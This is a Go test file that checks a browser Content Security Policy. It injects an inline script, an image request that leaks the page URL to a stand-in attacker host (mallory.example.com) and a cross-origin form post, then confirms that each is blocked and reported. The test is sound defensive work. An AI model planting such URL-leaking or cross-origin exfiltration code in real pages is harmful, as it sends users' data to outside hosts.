/*
Copyright 2026 The pat-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package browser

import (
	"slices"
	"strings"
	"testing"

	"github.com/pat-operator/pat-operator/test/long"
)

func TestPolicyStopsWhatThePageDoesNotHave(t *testing.T) {
	long.Only(t)
	t.Parallel()
	namespace := team(t)
	b := newTab(t)
	b.signIn("alice", namespace)
	eval[bool](b, `(() => {
		const script = document.createElement("script");
		script.textContent = "window.ran = true";
		const other = document.createElement("img");
		other.src = "https://mallory.example.com/?" + location.href;
		const form = document.createElement("form");
		form.action = "https://mallory.example.com/";
		form.method = "post";
		document.body.append(script, other, form);
		form.submit();
		return true;
	})()`)
	if failed := eval[bool](b, `fetch("https://mallory.example.com/").then(() => false, () => true)`); !failed {
		t.Error("the page may ask another host")
	}
	if eval[bool](b, `"ran" in window`) {
		t.Error("an inline script has run")
	}
	for _, directive := range []string{"script-src", "img-src", "form-action", "connect-src"} {
		eventually(t, directive+" is enforced", func() bool {
			b.mu.Lock()
			defer b.mu.Unlock()
			return slices.ContainsFunc(b.wrong, func(text string) bool { return strings.Contains(text, directive) })
		})
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.wrong, b.requests = nil, nil // as wanted
}
